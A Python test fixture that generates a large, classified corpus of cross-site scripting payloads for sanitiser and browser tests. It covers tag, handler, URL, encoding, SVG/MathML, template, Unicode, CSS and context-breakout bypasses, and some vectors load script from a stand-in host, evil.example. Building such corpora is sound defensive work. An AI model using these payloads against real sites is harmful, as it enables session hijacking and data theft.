"""Our own corpus of script-injection vectors, for the sanitiser tests and the browser tests.

Every payload, if the browser ever ran it, calls `window.__xss(<its name>)`, so a test that
defines that hook sees exactly which vector got through. In the templates below `%H%` is
`__xss('name')`, `%HD%` the same with double quotes and `%HR%` a form with no quotes at all
(`__xss(/name/.source)`), for contexts where a quote would end the attack early.

The classes follow the usual families of attacks on HTML sanitisers: raw tags, attributes and
event handlers, URLs, encodings, SVG/MathML, template syntax, Unicode tricks, CSS, breaking out
of script/JSON contexts, markdown-style links, and long or deeply nested input. bench/flood.py
imports `VECTORS` too.
"""

from __future__ import annotations

import base64
from collections import Counter
from dataclasses import dataclass


@dataclass(frozen=True)
class Vector:
    name: str
    cls: str
    payload: str

    @property
    def hook(self) -> str:
        """The call the payload makes when it runs."""
        return f"__xss('{self.name}')"


def _fill(name: str, template: str) -> str:
    return (
        template.replace("%HD%", f'__xss("{name}")')
        .replace("%HR%", f"__xss(/{name}/.source)")
        .replace("%H%", f"__xss('{name}')")
    )


def _dec(text: str, pad: int = 0, semi: bool = True) -> str:
    end = ";" if semi else ""
    return "".join(f"&#{ord(c):0{pad}d}{end}" for c in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _char_codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


# (class, name, template). Names are unique, lowercase and hyphenated: they end up inside a
# JavaScript regex literal and a string.
_RAW: list[tuple[str, str, str]] = [
    # --- Raw tags ---------------------------------------------------------------------------
    ("tag", "script-plain", "<script>%H%</script>"),
    ("tag", "script-upper", "<SCRIPT>%H%</SCRIPT>"),
    ("tag", "script-data-src", '<script src="data:text/javascript,%H%"></script>'),
    ("tag", "script-slash-attr", "<script/x>%H%</script>"),
    ("tag", "script-newline-in-tag", "<script\n>%H%</script\n>"),
    ("tag", "script-split-by-strip", "<scr<script>ipt>%H%</scr</script>ipt>"),
    ("tag", "script-unclosed", "<script>%H%"),
    ("tag", "script-double-open", "<<script>%H%//<</script>"),
    ("tag", "script-in-attr-quote", '<img """><script>%H%</script>">'),
    ("tag", "img-onerror-bare", "<img src=x onerror=%HR%>"),
    ("tag", "img-onerror-quoted", '<img src="x" onerror="%H%">'),
    ("tag", "img-unclosed", "<img src=x:x onerror=%HR%//"),
    ("tag", "image-alias", "<image src=x onerror=%HR%>"),
    ("tag", "svg-onload", "<svg onload=%HR%>"),
    ("tag", "svg-slash-onload", "<svg/onload=%HR%>"),
    ("tag", "iframe-js-src", '<iframe src="javascript:%H%"></iframe>'),
    ("tag", "iframe-srcdoc", '<iframe srcdoc="<script>parent.%H%</script>"></iframe>'),
    ("tag", "object-js-data", '<object data="javascript:%H%"></object>'),
    ("tag", "object-html-data", '<object data="data:text/html,<script>%H%</script>"></object>'),
    ("tag", "embed-js-src", '<embed src="javascript:%H%">'),
    ("tag", "embed-svg-data", '<embed src="data:image/svg+xml,<svg onload=%HR%>">'),
    ("tag", "applet-code", '<applet code="javascript:%H%"></applet>'),
    ("tag", "style-import", "<style>@import 'javascript:%H%';</style>"),
    ("tag", "link-stylesheet-js", '<link rel="stylesheet" href="javascript:%H%">'),
    ("tag", "link-import-data", '<link rel="import" href="data:text/html,<script>%H%</script>">'),
    ("tag", "meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:%H%">'),
    ("tag", "meta-refresh-data", '<meta http-equiv="refresh" content="0;data:text/html,%HR%">'),
    ("tag", "base-href-js", '<base href="javascript:%H%//">'),
    ("tag", "base-href-foreign", '<base href="https://evil.example/"><script src="x.js">%H%'),
    ("tag", "body-onload", "<body onload=%HR%>"),
    ("tag", "frameset-onload", "<frameset onload=%HR%>"),
    ("tag", "video-source-onerror", "<video><source onerror=%HR%></video>"),
    ("tag", "audio-onerror", "<audio src=x onerror=%HR%>"),
    ("tag", "details-ontoggle", "<details open ontoggle=%HR%>x</details>"),
    ("tag", "marquee-onstart", "<marquee onstart=%HR%>x</marquee>"),
    ("tag", "button-formaction", '<form><button formaction="javascript:%H%">go</button></form>'),
    ("tag", "isindex-action", "<isindex action=javascript:%H% type=image>"),
    ("tag", "table-background", '<table background="javascript:%H%"><tr><td>x</td></tr></table>'),
    ("tag", "template-content", "<template><img src=x onerror=%HR%></template>"),
    ("tag", "a-js-href", '<a href="javascript:%H%">read more</a>'),
    ("tag", "textarea-wrapped", "<textarea><img src=x onerror=%HR%></textarea>"),
    ("tag", "plaintext-rest", "<plaintext><script>%H%</script>"),
    ("tag", "dialog-open", "<dialog open onclose=%HR%><form method=dialog><button>x</button>"),
    # --- Attributes and event handlers ------------------------------------------------------
    ("attr", "dq-breakout", '" onmouseover="%H%" x="'),
    ("attr", "sq-breakout", "' onmouseover='%HD%' x='"),
    ("attr", "backtick-breakout", "` onmouseover=%HR% `"),
    ("attr", "dq-close-tag", '"><img src=x onerror=%HR%>'),
    ("attr", "sq-close-tag", "'><img src=x onerror=%HR%>"),
    ("attr", "dq-autofocus", '" autofocus onfocus="%H%'),
    ("attr", "sq-autofocus", "' autofocus onfocus='%HD%"),
    ("attr", "input-autofocus", "<input onfocus=%HR% autofocus>"),
    ("attr", "select-autofocus", "<select autofocus onfocus=%HR%></select>"),
    ("attr", "textarea-autofocus", "<textarea autofocus onfocus=%HR%></textarea>"),
    ("attr", "keygen-autofocus", "<keygen autofocus onfocus=%HR%>"),
    ("attr", "div-focusin", "<div tabindex=1 autofocus onfocusin=%HR%>x</div>"),
    ("attr", "a-mouseover", "<a onmouseover=%HR%>hover me</a>"),
    ("attr", "p-onclick", '<p onclick="%H%">click me</p>'),
    ("attr", "spaces-around-equals", "<img src=x onerror  =  %HR%>"),
    ("attr", "mixed-case-handler", "<img src=x oNeRrOr=%HR%>"),
    ("attr", "duplicate-attr", "<img src=x onerror=%HR% onerror=x>"),
    ("attr", "slash-separators", "<img/src=x/onerror=%HR%>"),
    ("attr", "tab-separator", "<img src=x\tonerror=%HR%>"),
    ("attr", "formfeed-separator", "<img src=x\x0conerror=%HR%>"),
    ("attr", "pointerenter", "<div onpointerenter=%HR%>x</div>"),
    ("attr", "pageshow", "<body onpageshow=%HR%>"),
    ("attr", "svg-onbegin", "<svg><animate onbegin=%HR% attributeName=x dur=1s>"),
    ("attr", "video-onplay", "<video autoplay muted onplay=%HR%><source src=x></video>"),
    ("attr", "atob-eval", "<img src=x onerror=eval(atob(/__B64__/.source))>"),
    ("attr", "fromcharcode", "<img src=x onerror=eval(String.fromCharCode(__CODES__))>"),
    ("attr", "contenteditable-click", "<x contenteditable onclick=%HR%>edit me</x>"),
    ("attr", "unquoted-gt-in-value", "<img src=x alt=a>b onerror=%HR%>"),
    ("attr", "style-onload", "<style onload=%HR%></style>"),
    ("attr", "data-attr-template", '<div data-x="%H%" data-bind="%H%" is="x-%HR%">x</div>'),
    ("attr", "srcset-js", '<img srcset="javascript:%H% 1x" src=x>'),
    (
        "attr",
        "popover-toggle",
        "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=%HR%>",
    ),
    # --- URLs -------------------------------------------------------------------------------
    ("url", "js-bare-text", "javascript:%H%"),
    ("url", "js-upper-text", "JAVASCRIPT:%H%"),
    ("url", "js-comment-trick", "javascript://example.org/%0a%H%"),
    ("url", "js-mixed-case", '<a href="JaVaScRiPt:%H%">x</a>'),
    ("url", "js-leading-space", '<a href=" javascript:%H%">x</a>'),
    ("url", "js-leading-control", '<a href="\x01javascript:%H%">x</a>'),
    ("url", "js-embedded-tab", '<a href="java\tscript:%H%">x</a>'),
    ("url", "js-embedded-newline", '<a href="java\nscript:%H%">x</a>'),
    ("url", "js-entity-tab", '<a href="java&#x09;script:%H%">x</a>'),
    ("url", "js-entity-newline", '<a href="java&#10;script:%H%">x</a>'),
    ("url", "js-named-newline", '<a href="java&NewLine;script:%H%">x</a>'),
    ("url", "js-entity-first-letter", '<a href="&#106;avascript:%H%">x</a>'),
    ("url", "js-entity-colon", '<a href="javascript&colon;%H%">x</a>'),
    (
        "url",
        "js-entity-parens",
        "<a href=\"javascript:__xss&lpar;'url-js-entity-parens'&rpar;\">x</a>",
    ),
    ("url", "js-percent-scheme", '<a href="%6Aavascript:%H%">x</a>'),
    ("url", "vbscript", '<a href="vbscript:%HD%">x</a>'),
    ("url", "vbscript-upper", '<a href="VBScript:%HD%">x</a>'),
    ("url", "data-html", '<a href="data:text/html,<script>%H%</script>">x</a>'),
    ("url", "data-html-b64", '<a href="data:text/html;base64,__B64SCRIPT__">x</a>'),
    ("url", "data-svg", '<a href="data:image/svg+xml,<svg onload=%HR%>">x</a>'),
    ("url", "data-bare-text", "data:text/html,<script>%H%</script>"),
    (
        "url",
        "protocol-relative-script",
        '<script src="//evil.example/url-protocol-relative.js">%H%</script>',
    ),
    ("url", "protocol-relative-link", '<a href="//evil.example/%HR%">x</a>'),
    ("url", "autolink-dq-breakout", 'https://example.org/"onmouseover="%H%"'),
    ("url", "autolink-sq-breakout", "https://example.org/'onmouseover='%HD%'"),
    ("url", "autolink-tag-breakout", "https://example.org/<script>%H%</script>"),
    ("url", "www-breakout", 'www.example.org/"><img src=x onerror=%HR%>'),
    ("url", "autolink-percent-quote", "https://example.org/%22onmouseover=%22%H%"),
    ("url", "autolink-entity-quote", "https://example.org/&quot;onmouseover=&quot;%H%"),
    ("url", "userinfo-js", "https://javascript:%H%@example.org/"),
    ("url", "query-js", "http://example.org/?next=javascript:%H%"),
    ("url", "form-action-js", '<form action="javascript:%H%"><input type=submit></form>'),
    ("url", "img-src-js", '<img src="javascript:%H%">'),
    ("url", "https-opaque", '<a href="https:%H%">x</a>'),
    ("url", "mailto-body", '<a href="mailto:x@example.org?body=<script>%H%</script>">x</a>'),
    ("url", "ftp-js-path", '<a href="ftp://x/javascript:%H%">x</a>'),
    ("url", "backslash-host", '<a href="\\\\evil.example\\%HR%">x</a>'),
    # --- Encodings --------------------------------------------------------------------------
    ("encoding", "pre-escaped", "&lt;script&gt;%H%&lt;/script&gt;"),
    ("encoding", "pre-escaped-img", "&lt;img src=x onerror=%HR%&gt;"),
    ("encoding", "no-semicolon-lt", "&ltimg src=x onerror=%HR%&gt"),
    ("encoding", "decimal-lt", "&#60;script&#62;%H%&#60;/script&#62;"),
    ("encoding", "hex-lt", "&#x3c;script&#x3e;%H%&#x3c;/script&#x3e;"),
    ("encoding", "zero-padded-lt", "&#0000060script&#0000062%H%&#0000060/script&#0000062"),
    ("encoding", "percent", "%3Cscript%3E%H%%3C%2Fscript%3E"),
    ("encoding", "double-percent", "%253Cscript%253E%H%%253C%252Fscript%253E"),
    ("encoding", "utf7", "+ADw-script+AD4-%H%+ADw-/script+AD4-"),
    ("encoding", "utf7-charset-meta", '<meta charset="utf-7">+ADw-script+AD4-%H%+ADw-/script+AD4-'),
    ("encoding", "null-before-tag", "\x00<script>%H%</script>"),
    ("encoding", "null-in-tag-name", "<scr\x00ipt>%H%</scr\x00ipt>"),
    ("encoding", "null-in-handler", "<img src=x onerror\x00=%HR%>"),
    ("encoding", "null-in-scheme", '<a href="java\x00script:%H%">x</a>'),
    ("encoding", "js-unicode-escape", "\\u003cscript\\u003e%H%\\u003c/script\\u003e"),
    ("encoding", "js-hex-escape", "\\x3cscript\\x3e%H%\\x3c/script\\x3e"),
    (
        "encoding",
        "entity-in-handler",
        "<img src=x onerror=\"&#95;&#95;xss('encoding-entity-in-handler')\">",
    ),
    ("encoding", "hex-entity-scheme", '<a href="__HEXJS__:%H%">x</a>'),
    ("encoding", "decimal-entity-scheme", '<a href="__DECJS__:%H%">x</a>'),
    ("encoding", "padded-entity-scheme", '<a href="__PADJS__:%H%">x</a>'),
    ("encoding", "nosemi-entity-scheme", '<a href="__NOSEMIJS__:%H%">x</a>'),
    ("encoding", "overlong-utf8", "%C0%BCscript%C0%BE%H%%C0%BC/script%C0%BE"),
    ("encoding", "html-in-base64-text", "__B64TEXT__"),
    ("encoding", "amp-double-escaped", "&amp;lt;script&amp;gt;%H%&amp;lt;/script&amp;gt;"),
    # --- SVG and MathML ---------------------------------------------------------------------
    ("svg", "svg-script", "<svg><script>%H%</script></svg>"),
    (
        "svg",
        "svg-script-entity",
        "<svg><script>&#95;&#95;xss('svg-svg-script-entity')</script></svg>",
    ),
    ("svg", "svg-script-href", '<svg><script href="data:text/javascript,%H%"/></svg>'),
    ("svg", "xlink-href", '<svg><a xlink:href="javascript:%H%"><text x=20 y=20>x</text></a></svg>'),
    ("svg", "svg-a-href", '<svg><a href="javascript:%H%"><text x=20 y=20>x</text></a></svg>'),
    (
        "svg",
        "animate-href",
        '<svg><a><animate attributeName=href values="jav'
        'ascript:%H%"/><text x=20 y=20>x</text></a></svg>',
    ),
    (
        "svg",
        "set-href",
        '<svg><a><set attributeName=href to="javascript:%H%"/><text x=20 y=20>x</text></a></svg>',
    ),
    (
        "svg",
        "animate-xlink",
        "<svg><a><animate attributeName=xlink:href from="
        '"javascript:%H%" to=1 /><text>x</text></a></svg>',
    ),
    (
        "svg",
        "foreignobject-img",
        "<svg><foreignObject><img src=x onerror=%HR%></foreignObject></svg>",
    ),
    (
        "svg",
        "foreignobject-iframe",
        '<svg><foreignObject><iframe srcdoc="<script>pare'
        'nt.%H%</script>"></iframe></foreignObject></svg>',
    ),
    ("svg", "svg-image-onerror", "<svg><image href=x onerror=%HR% /></svg>"),
    (
        "svg",
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www."
        "w3.org/2000/svg'><image href='1' onerror='%HD%'/></svg>#x\"/></svg>",
    ),
    ("svg", "svg-style-element", "<svg><style><img src=x onerror=%HR%></style></svg>"),
    ("svg", "svg-p-style-confusion", '<svg></p><style><a id="</style><img src=1 onerror=%HR%>">'),
    (
        "svg",
        "svg-title-cdata",
        "<svg><title><![CDATA[</title><img src=x onerror=%HR%>]]></title></svg>",
    ),
    ("svg", "svg-desc-cdata", "<svg><desc><![CDATA[</desc><script>%H%</script>]]></desc></svg>"),
    (
        "svg",
        "svg-handler-element",
        '<svg><handler xmlns:ev="http://www.w3.org/2001/'
        'xml-events" ev:event="load">%H%</handler></svg>',
    ),
    ("svg", "svg-discard", "<svg><discard onbegin=%HR% /></svg>"),
    ("svg", "svg-animate-onend", "<svg><animate onend=%HR% attributeName=x dur=1s /></svg>"),
    ("svg", "mathml-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=%HR%>"),
    (
        "svg",
        "mathml-mglyph-svg",
        '<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=%HR%>">',
    ),
    (
        "svg",
        "mathml-form-mglyph",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=%HR%>",
    ),
    ("svg", "mathml-malignmark", "<math><mi><malignmark><style><img src=x onerror=%HR%>"),
    ("svg", "mathml-href", '<math href="javascript:%H%"><mi>x</mi></math>'),
    (
        "svg",
        "mathml-maction",
        "<math><maction actiontype=statusline xlink:href=javascript:%H%>x</maction></math>",
    ),
    ("svg", "noscript-title", '<noscript><p title="</noscript><img src=x onerror=%HR%>">'),
    ("svg", "noembed-title", '<noembed><img title="</noembed><img src=x onerror=%HR%>"></noembed>'),
    (
        "svg",
        "noframes-title",
        '<noframes><p title="</noframes><img src=x onerror=%HR%>"></noframes>',
    ),
    ("svg", "iframe-title", '<iframe><img title="</iframe><img src=x onerror=%HR%>"></iframe>'),
    ("svg", "xmp-title", '<xmp><p title="</xmp><img src=x onerror=%HR%>">'),
    (
        "svg",
        "svg-xhtml-ns",
        '<svg><foreignObject><div xmlns="http://www.w3.org/1999/xh'
        'tml"><img src=x onerror=%HR%></div></foreignObject></svg>',
    ),
    (
        "svg",
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><i'
        "mg src=x onerror=%HR%></annotation-xml></math>",
    ),
    # --- Template syntax --------------------------------------------------------------------
    ("template", "mustache", "{{ %H% }}"),
    ("template", "triple-mustache", "{{{ %H% }}}"),
    ("template", "constructor", '{{constructor.constructor("%H%")()}}'),
    ("template", "angular-on", "{{$on.constructor('%HD%')()}}"),
    ("template", "angular-ng-app", "<div ng-app ng-csp>{{$eval.constructor('%HD%')()}}</div>"),
    ("template", "vue-c", "{{_c.constructor('%HD%')()}}"),
    ("template", "vue-v-html", "<div v-html=\"'<img src=x onerror=%HR%>'\"></div>"),
    ("template", "django-safe", "{{ '<script>%H%</script>'|safe }}"),
    (
        "template",
        "django-autoescape-off",
        "{% autoescape off %}<img src=x onerror=%HR%>{% endautoescape %}",
    ),
    ("template", "django-block", "{% if 1 %}<script>%H%</script>{% endif %}"),
    ("template", "dollar-brace", "${%H%}"),
    ("template", "backtick-literal", "`${%H%}`"),
    ("template", "hash-brace", "#{%H%}"),
    ("template", "erb", "<%= %H% %>"),
    ("template", "razor", "@{%H%}"),
    ("template", "polymer", "[[%H%]]"),
    ("template", "alpine-init", '<div x-data x-init="%H%"></div>'),
    ("template", "knockout-html", "<div data-bind=\"html: '<img src=x onerror=%HR%>'\"></div>"),
    ("template", "htmx-load", '<div hx-get="javascript:%H%" hx-trigger="load"></div>'),
    ("template", "jinja-class", "{{ ''.__class__.__mro__[1] }}<script>%H%</script>"),
    # --- Unicode tricks ---------------------------------------------------------------------
    ("unicode", "rtl-override", "\u202e<script>%H%</script>\u202c"),
    ("unicode", "rtl-override-link", "\u202ehttps://example.org/\u202dgpj.exe<script>%H%</script>"),
    ("unicode", "zwj-in-tag", "<scr\u200dipt>%H%</scr\u200dipt>"),
    ("unicode", "zwsp-in-handler", "<img src=x on\u200berror=%HR%>"),
    ("unicode", "fullwidth-angle", "\uff1cscript\uff1e%H%\uff1c/script\uff1e"),
    ("unicode", "small-form-angle", "\ufe64script\ufe65%H%\ufe64/script\ufe65"),
    ("unicode", "single-angle-quotes", "\u2039script\u203a%H%\u2039/script\u203a"),
    ("unicode", "cyrillic-s-tag", "<\u0455cript>%H%</\u0455cript>"),
    ("unicode", "cyrillic-a-scheme", '<a href="j\u0430vascript:%H%">x</a>'),
    ("unicode", "cyrillic-a-bare", "j\u0430vascript:%H%"),
    ("unicode", "long-s-tag", "<\u017fcript>%H%</\u017fcript>"),
    ("unicode", "dotted-i-tag", "<\u0130MG src=x onerror=%HR%>"),
    ("unicode", "combining-dot", "<scri\u0307pt>%H%</scri\u0307pt>"),
    ("unicode", "combining-solidus", "<\u0338script>%H%<\u0338/script>"),
    ("unicode", "line-separator-scheme", "java\u2028script:%H%"),
    ("unicode", "bom-prefix", "\ufeff<script>%H%</script>"),
    ("unicode", "nbsp-in-tag", "<script\u00a0>%H%</script>"),
    ("unicode", "mongolian-separator", '<a href="\u180ejavascript:%H%">x</a>'),
    ("unicode", "math-alphanumerics", "\U0001d4e7\U0001d4e2\U0001d4e2 <script>%H%</script>"),
    ("unicode", "tag-characters", "\U000e0073\U000e0063<script>%H%</script>\U000e007f"),
    ("unicode", "lrm-rlm-handler", "<img src=x \u200eonerror\u200f=%HR%>"),
    ("unicode", "halfwidth-katakana-mix", "\uff8a\uff9d<svg onload=%HR%>\uff76\uff85"),
    # --- CSS --------------------------------------------------------------------------------
    ("css", "style-url-js", '<div style="background:url(javascript:%H%)">x</div>'),
    ("css", "style-expression", '<div style="width:expression(%H%)">x</div>'),
    ("css", "style-escaped-expression", '<div style="x:\\65xpression(%H%)">x</div>'),
    ("css", "style-url-escape", '<div style="background-image:u\\rl(javascript:%H%)">x</div>'),
    ("css", "import-url", '<style>@import url("javascript:%H%");</style>'),
    ("css", "block-url", '<style>body{background:url("javascript:%H%")}</style>'),
    ("css", "block-expression", "<style>*{x:expression(%H%)}</style>"),
    (
        "css",
        "keyframes-animationstart",
        '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart=%HR%></div>',
    ),
    ("css", "link-data-css", '<link rel="stylesheet" href="data:text/css,*{x:expression(%H%)}">'),
    ("css", "unterminated-style", "<style></style><img src=x onerror=%HR%>"),
    ("css", "comment-in-style", "<style><!--</style><img src=x onerror=%HR%>-->"),
    ("css", "custom-property-url", '<div style="--x:url(javascript:%H%)">x</div>'),
    (
        "css",
        "svg-style-import",
        "<svg><style>@import 'data:,*%7bx:expression(%H%)%7d';</style></svg>",
    ),
    ("css", "close-style", "</style><script>%H%</script>"),
    ("css", "moz-binding", '<div style="-moz-binding:url(data:text/xml,%HR%)">x</div>'),
    # --- Script, JSON, comment and CDATA contexts -------------------------------------------
    ("context", "close-script", "</script><script>%H%</script>"),
    ("context", "close-script-img", "</script><img src=x onerror=%HR%>"),
    ("context", "open-comment", "<!--<script>%H%//-->"),
    ("context", "close-comment", "--><script>%H%</script><!--"),
    ("context", "bang-close-comment", "--!><script>%H%</script>"),
    ("context", "cdata-close", "]]><script>%H%</script><![CDATA["),
    ("context", "cdata-wrapped", "<![CDATA[<script>%H%</script>]]>"),
    ("context", "json-dq", '"};%H%;//'),
    ("context", "json-sq", "'};%H%;//"),
    ("context", "json-escaped-dq", '\\";%H%;//'),
    ("context", "json-in-script", '{"a":"</script><script>%H%</script>"}'),
    ("context", "line-separator-js", "x\u2028%H%\u2029"),
    ("context", "close-title", "</title><script>%H%</script>"),
    ("context", "close-textarea", "</textarea><script>%H%</script>"),
    ("context", "close-noscript", "</noscript><script>%H%</script>"),
    ("context", "close-template", "</template><script>%H%</script>"),
    ("context", "attr-and-script", '"><script>%H%</script>'),
    ("context", "xml-decl", '<?xml version="1.0"?><script>%H%</script>'),
    ("context", "doctype", "<!DOCTYPE html><script>%H%</script>"),
    ("context", "conditional-comment", "<!--[if gte IE 4]><script>%H%</script><![endif]-->"),
    (
        "context",
        "polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=%HR% )//%0D%0A//</stY"
        "le/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=%HR%//>\\x3e",
    ),
    (
        "context",
        "json-ld-breakout",
        '</script><script type="application/ld+json">{}</script><script>%H%</script>',
    ),
    # --- Markdown-style links ---------------------------------------------------------------
    ("markdown", "link-js", "[click here](javascript:%H%)"),
    ("markdown", "link-js-upper", "[click here](JAVASCRIPT:%H%)"),
    ("markdown", "link-data", "[click](data:text/html,<script>%H%</script>)"),
    ("markdown", "image-breakout", '![img](x" onerror="%H%)'),
    ("markdown", "link-title-breakout", '[a](https://example.org "t" onmouseover="%H%")'),
    ("markdown", "autolink-js", "<javascript:%H%>"),
    ("markdown", "reference-js", "[x][1]\n\n[1]: javascript:%H%"),
    ("markdown", "image-in-link", "[![a](x)](javascript:%H%)"),
    ("markdown", "code-span", "`<script>%H%</script>`"),
    ("markdown", "bold-img", "**<img src=x onerror=%HR%>**"),
    ("markdown", "angle-dest", "[a](<javascript:%H%>)"),
    ("markdown", "entity-dest", "[a](jav&#x61;script:%H%)"),
    ("markdown", "link-then-img", "[a](https://example.org/)<img src=x onerror=%HR%>"),
    ("markdown", "bbcode-url", "[url=javascript:%H%]click[/url]"),
    ("markdown", "bbcode-img", "[img]javascript:%H%[/img]"),
    ("markdown", "wiki-link", "[[javascript:%H%|click]]"),
]


def _long_vectors() -> list[tuple[str, str, str]]:
    img = "<img src=x onerror=%HR%>"
    return [
        ("long", "nested-divs", "<div>" * 200 + img + "</div>" * 200),
        ("long", "nested-svg", "<svg>" * 100 + "<script>%H%</script>" + "</svg>" * 100),
        ("long", "many-open-angles", "<" * 500 + "script>%H%</script>"),
        ("long", "padding-then-script", "A" * 2500 + "<script>%H%</script>"),
        ("long", "repeated-links", '<a href="javascript:%H%">x</a> ' * 40),
        ("long", "paragraph-split-tag", "<script\n\n>%H%</script\n\n>"),
        ("long", "long-url-breakout", "https://example.org/" + "a" * 1800 + '"onmouseover="%H%'),
        ("long", "nested-quotes", "\"'`" * 300 + "<img src=x onerror=%HR%>"),
        ("long", "many-lines", "<img\n" + "x\n" * 400 + "src=x onerror=%HR%>"),
        ("long", "unclosed-everything", "<b><i><u><a href='" * 80 + "javascript:%H%"),
        # Over the comment length limit: refused, never stored or cut into something else.
        ("long", "over-limit", "<script>%H%</script>" + "x" * 3200),
    ]


def _event_matrix() -> list[tuple[str, str, str]]:
    """Each auto-firing element/event pair in three quoting styles."""
    pairs = [
        ("img", "src=x onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("iframe", "onload"),
        ("video", "src=x onerror"),
        ("input", "autofocus onfocus"),
        ("details", "open ontoggle"),
        ("object", "data=x onerror"),
    ]
    out = []
    for tag, attrs in pairs:
        out.append(("attr", f"matrix-{tag}-bare", f"<{tag} {attrs}=%HR%>"))
        out.append(("attr", f"matrix-{tag}-dq", f'<{tag} {attrs}="%H%">'))
        out.append(("attr", f"matrix-{tag}-sq", f"<{tag} {attrs}='%HD%'>"))
    return out


def _scheme_matrix() -> list[tuple[str, str, str]]:
    """A few obfuscations of each dangerous scheme, in an href and in an iframe src."""
    out = []
    for scheme in ("javascript", "vbscript", "livescript"):
        for how, written in (
            ("tab-prefix", "\t" + scheme),
            ("cr-inside", scheme[:2] + "\r" + scheme[2:]),
            ("entity-all", _hex(scheme)),
        ):
            out.append(("url", f"scheme-{scheme}-{how}", f'<a href="{written}:%H%">x</a>'))
        out.append(("url", f"scheme-{scheme}-iframe", f'<iframe src="{scheme}:%H%"></iframe>'))
    return out


def _build() -> list[Vector]:
    vectors: list[Vector] = []
    seen: set[str] = set()
    for cls, short, template in _RAW + _long_vectors() + _event_matrix() + _scheme_matrix():
        name = short if short.startswith(f"{cls}-") else f"{cls}-{short}"
        if name in seen:
            raise ValueError(f"duplicate vector name {name}")
        seen.add(name)
        hook = f"__xss('{name}')"
        payload = (
            template.replace("__B64SCRIPT__", _b64(f"<script>parent.{hook}</script>"))
            .replace("__B64TEXT__", _b64(f"<script>{hook}</script>"))
            .replace("__B64__", _b64(hook))
            .replace("__CODES__", _char_codes(hook))
            .replace("__HEXJS__", _hex("javascript"))
            .replace("__DECJS__", _dec("javascript"))
            .replace("__PADJS__", _dec("javascript", pad=7))
            .replace("__NOSEMIJS__", _dec("javascript", semi=False))
        )
        vectors.append(Vector(name=name, cls=cls, payload=_fill(name, payload)))
    return vectors


VECTORS: list[Vector] = _build()
COUNT_BY_CLASS: dict[str, int] = dict(Counter(v.cls for v in VECTORS))
CLASSES: tuple[str, ...] = tuple(COUNT_BY_CLASS)
